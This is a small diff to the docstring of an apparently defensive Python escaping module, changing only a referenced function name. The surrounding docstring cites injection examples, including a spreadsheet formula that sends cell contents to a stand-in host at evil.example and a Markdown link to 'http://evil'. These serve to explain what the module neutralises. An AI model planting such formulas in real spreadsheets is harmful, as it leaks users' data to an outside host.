@@ -6,7 +6,7 @@ raw it can act instead of being read: ``ESC ] 0 ; ... BEL`` retitles the termina
 ``=HYPERLINK("http://evil.example/?"&A1,"x")`` is a live formula in Excel; a victim
 named ``# Heading`` or ``[x](http://evil)`` is a heading or a link in a letter. The
 functions here are the one place each of those is undone; names and ids are refused
-on input with :func:`control_characters_in`.
+on input with :func:`name_problem`.
 """
 
 from __future__ import annotations
